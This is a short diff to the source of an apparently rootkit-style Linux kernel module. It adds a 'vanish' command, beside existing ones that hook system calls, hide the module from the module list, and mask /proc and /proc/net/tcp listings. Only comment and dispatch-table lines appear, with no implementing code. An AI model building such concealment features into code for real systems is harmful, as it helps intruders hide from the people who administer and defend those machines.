@@ -22,6 +22,7 @@
  *   call     has a system call lead to a function of this module
  *   compat   has one of programs of 32 bits do so
  *   hide     takes this module out of the list of modules, for `hidden` seconds
+ *   vanish   takes it out of the tree, too, by which the kernel finds its code
  *   proc     has the listing of /proc lead to a function of this module
  *   tcp      does what `hide` does, and has a function of TCP lead to this module meanwhile
  *   show     has the listing of /proc/net/tcp lead to a function of this module
@@ -139,6 +140,7 @@ static const struct {
                         {"call", intruder_call, intruder_hook_undo},
                         {"compat", intruder_compat, intruder_hook_undo},
                         {"hide", intruder_hide, intruder_hide_undo},
+                        {"vanish", intruder_vanish, intruder_hide_undo},
                         {"proc", intruder_proc, intruder_hook_undo},
                         {"tcp", intruder_tcp, intruder_hide_undo},
                         {"show", intruder_show_list, intruder_hook_undo},
